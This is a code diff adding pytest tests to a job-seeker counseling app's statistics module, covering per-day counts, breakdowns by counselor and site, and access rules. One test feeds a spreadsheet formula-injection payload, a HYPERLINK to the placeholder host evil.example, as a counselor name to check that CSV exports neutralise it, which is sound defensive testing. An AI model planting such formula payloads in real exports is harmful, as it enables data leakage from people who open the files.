@@ -524,3 +524,171 @@ def rows_of(db: str, sql: str) -> list[str]:
         return [r[0] for r in connection.execute(sql)]
     finally:
         connection.close()
+
+
+# -- the per-day figures follow every change ---------------------------------------------
+
+
+def _raw(workspace: Workspace, dimension: Dimension) -> dict[tuple[int, str | None], dict]:
+    """The cells counted straight from the records (no per-day figures)."""
+    from sqlalchemy import func
+
+    from deskapp.store.breakdown_queries import base
+
+    cells: dict[tuple[int, str | None], dict[str, int]] = {}
+    with workspace.db.unit_of_work(write=False) as session:
+        for measure in ("job_seekers", "sessions", "referrals"):
+            rows = base(measure, dimension, YEAR.start, YEAR.end).subquery()
+            for desk, value, n in session.execute(
+                select(rows.c.desk_id, rows.c.value, func.count()).group_by(
+                    rows.c.desk_id, rows.c.value
+                )
+            ):
+                cells.setdefault((desk, value), {})[measure] = n
+    return cells
+
+
+def _kept(workspace: Workspace, actor: Actor, dimension: Dimension) -> dict:
+    from deskapp.store.breakdown_queries import breakdown_counts
+
+    workspace.statistics.recount_days(actor)
+    measures = ("job_seekers", "sessions", "referrals")
+    with workspace.db.unit_of_work(write=False) as session:
+        return breakdown_counts(session, dimension, YEAR.start, YEAR.end, measures)
+
+
+def _agree(workspace: Workspace, actor: Actor, when: str) -> None:
+    for dimension in Dimension:
+        assert _kept(workspace, actor, dimension) == _raw(workspace, dimension), (when, dimension)
+
+
+def test_the_per_day_figures_follow_every_change(workspace: Workspace, admin: Actor) -> None:
+    from deskapp.domain.commands import ChangeRecord
+
+    people = _people(workspace, admin)
+    plus = people["plus"]
+    assert isinstance(plus, Actor)
+    _agree(workspace, admin, "at first")
+    records, fix = workspace.records, workspace.corrections
+    kim = add_seeker(workspace, plus, "김두리", "2018-05-02", 생년월일="1970-01-01", 성별="남")
+    twin = add_seeker(workspace, plus, "김두리", "2018-05-03", 생년월일="1970-01-01")
+    session_id = records.log_session(plus, LogSession(kim.number, date(2018, 5, 4))).id
+    records.log_session(plus, LogSession(twin.number, date(2018, 5, 5), counselor_name="한대리"))
+    _agree(workspace, admin, "new records")
+    fix.change(admin, ChangeRecord(RecordKind.SEEKER, kim.number,
+                                   {"성별": "여", "생년월일": "2001-01-01", "구민여부": "예"},
+                                   "잘못 입력"))  # fmt: skip
+    _agree(workspace, admin, "a seeker's sex, birth date and residence")
+    fix.change(admin, ChangeRecord(RecordKind.SEEKER, kim.number, {"대상그룹": "청년, 한부모"},
+                                   "그룹 추가"))  # fmt: skip
+    _agree(workspace, admin, "groups added")
+    fix.change(admin, ChangeRecord(RecordKind.SEEKER, kim.number, {"대상그룹": ""}, "그룹 삭제"))
+    _agree(workspace, admin, "groups removed")
+    fix.change(admin, ChangeRecord(RecordKind.SESSION, str(session_id), {"상담일": "2018-06-30"},
+                                   "날짜 정정"))  # fmt: skip
+    _agree(workspace, admin, "a session moved to another day")
+    fix.change(admin, ChangeRecord(RecordKind.SEEKER, twin.number, {"등록창구": "G밸리"}, "창구"))
+    _agree(workspace, admin, "a registration moved to another desk")
+    merged = workspace.casework.merge(admin, kim.id, twin.id, "같은 사람")
+    _agree(workspace, admin, "two records of one person merged")
+    workspace.casework.undo_merge(admin, merged)
+    _agree(workspace, admin, "the merge undone")
+    records.void(admin, RecordKind.SESSION, session_id, "잘못 입력")
+    records.void(admin, RecordKind.SEEKER, twin.id, "중복")
+    _agree(workspace, admin, "voided")
+
+
+# -- what the review found ----------------------------------------------------------------
+
+
+def test_csv_names_are_quoted_and_never_formulas(workspace: Workspace, admin: Actor) -> None:
+    import csv
+
+    plus = counselor_at(workspace, admin, "plus")
+    seeker = add_seeker(workspace, plus, "김정상", "2018-03-02")
+    for name in ('=HYPERLINK("http://evil.example/?a","보기")', "홍,길동"):
+        workspace.records.log_session(
+            plus, LogSession(seeker.number, date(2018, 3, 3), counselor_name=name)
+        )
+    lines = workspace.statistics.breakdown(admin, YEAR, Dimension.COUNSELOR).csv_lines()
+    parsed = list(csv.reader(lines))
+    assert all(len(row) == 6 for row in parsed)
+    names = {row[1] for row in parsed[1:]}
+    assert '\'=HYPERLINK("http://evil.example/?a","보기")' in names
+    assert "홍,길동" in names
+
+
+def test_a_person_placed_at_both_sites_is_in_the_first_ones_row(
+    workspace: Workspace, admin: Actor
+) -> None:
+    dong = counselor_at(workspace, admin, "dong")
+    seeker = add_seeker(workspace, dong, "양현장", "2018-03-02")
+    at = {site: DeskRef(desk_by_code("dong"), site) for site in ("시흥4동", "독산동")}
+    records = workspace.records
+    records.record_placement(dong, RecordPlacement(seeker.number, date(2018, 5, 2),
+                                                   desk=at["독산동"]))  # fmt: skip
+    records.record_placement(dong, RecordPlacement(seeker.number, date(2018, 7, 2),
+                                                   desk=at["시흥4동"]))  # fmt: skip
+    table = workspace.statistics.breakdown(admin, YEAR, Dimension.SITE)
+    assert table.cell("dong", "독산동").placements == 1
+    assert table.cell("dong", "시흥4동").placements == 0
+    assert workspace.statistics.table(admin, YEAR).by_desk["dong"].placements == 1
+    found = workspace.review.drill_down(admin, YEAR, "dong", "placements", Dimension.SITE, "독산동")
+    assert [row.seeker_id for row in found] == [seeker.id]
+    assert not workspace.review.drill_down(
+        admin, YEAR, "dong", "placements", Dimension.SITE, "시흥4동"
+    )
+
+
+def test_a_registration_stays_with_who_registered_it(workspace: Workspace, admin: Actor) -> None:
+    plus = counselor_at(workspace, admin, "plus")
+    other = workspace.accounts.create_user(
+        admin, "c-plus-2", PASSWORD, Role.COUNSELOR, desk="plus", display_name="둘째 상담사"
+    )
+    seeker = add_seeker(workspace, plus, "이재배정", "2018-03-02")
+    workspace.corrections.reassign(admin, [seeker.id], other.username, "담당 변경")
+    table = workspace.statistics.breakdown(admin, YEAR, Dimension.COUNSELOR)
+    assert table.cell("plus", plus.display_name).job_seekers == 1
+    assert table.cell("plus", other.display_name).job_seekers == 0
+
+
+def test_a_counselor_sees_only_their_own_row_per_counselor(
+    workspace: Workspace, admin: Actor
+) -> None:
+    people = _people(workspace, admin)
+    plus, dong = people["plus"], people["dong"]
+    assert isinstance(plus, Actor) and isinstance(dong, Actor)
+    mine = workspace.statistics.breakdown(plus, YEAR, Dimension.COUNSELOR)
+    assert {value for _, value in mine.cells} == {plus.display_name}
+    assert mine.cell("plus", plus.display_name).sessions == 2
+    exported = workspace.statistics.export_breakdowns(plus, YEAR, (Dimension.COUNSELOR,), "회의")
+    assert {value for _, value in exported[Dimension.COUNSELOR].whole.cells} == {plus.display_name}
+    with pytest.raises(PermissionDenied):
+        workspace.review.drill_down(plus, YEAR, "plus", "sessions", Dimension.COUNSELOR, "한대리")
+    lead = workspace.accounts.create_user(admin, "lead", PASSWORD, Role.TEAM_LEAD)
+    every = workspace.statistics.breakdown(lead, YEAR, Dimension.COUNSELOR)
+    assert "한대리" in every.desk_values(desk_by_code("plus"))
+
+
+def test_two_active_accounts_cannot_share_a_name(workspace: Workspace, admin: Actor) -> None:
+    workspace.accounts.create_user(
+        admin, "kim-plus", PASSWORD, Role.COUNSELOR, desk="plus", display_name="김민수"
+    )
+    with pytest.raises(ValidationError) as raised:
+        workspace.accounts.create_user(
+            admin, "kim-dong", PASSWORD, Role.COUNSELOR, desk="dong", display_name="김민수"
+        )
+    assert raised.value.field == "표시 이름"
+
+
+def test_a_retired_group_keeps_its_place_where_it_counts(
+    workspace: Workspace, admin: Actor
+) -> None:
+    plus = counselor_at(workspace, admin, "plus")
+    add_seeker(workspace, plus, "박특성", "2018-03-02", 대상그룹="특성화고")
+    groups = [g.name for g in workspace.groups.groups()]
+    workspace.groups.retire(admin, "특성화고")
+    table = workspace.statistics.breakdown(admin, YEAR, Dimension.GROUP)
+    shown = [v for v in table.values if v in groups]
+    assert shown == groups  # in the list's order, the retired one still in its place
+    assert table.cell("plus", "특성화고").job_seekers == 1
